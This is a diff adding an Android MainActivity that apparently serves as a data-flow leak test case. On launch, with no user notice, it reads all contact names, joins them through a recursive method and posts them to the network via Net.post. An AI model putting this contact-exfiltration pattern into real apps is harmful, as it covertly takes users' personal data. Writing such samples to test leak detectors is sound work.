@@ -1,0 +1,44 @@
+package com.example.flows.recursion;
+
+import android.accounts.*;
+import android.app.*;
+import android.content.*;
+import android.content.pm.*;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.*;
+import android.os.*;
+import android.provider.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import org.json.*;
+
+/** Names are put together by a method that calls itself. */
+public class MainActivity extends Activity {
+    @Override
+    public void onCreate(Bundle state) {
+        super.onCreate(state);
+        Net.post(join(contacts().split(";"), 0));
+    }
+    String contacts() {
+        StringBuilder names = new StringBuilder();
+        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
+        while (cursor.moveToNext()) {
+            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
+        }
+        cursor.close();
+        return names.toString();
+    }
+    static String join(String[] parts, int at) {
+        return at == parts.length ? "" : parts[at] + "|" + join(parts, at + 1);
+    }
+}
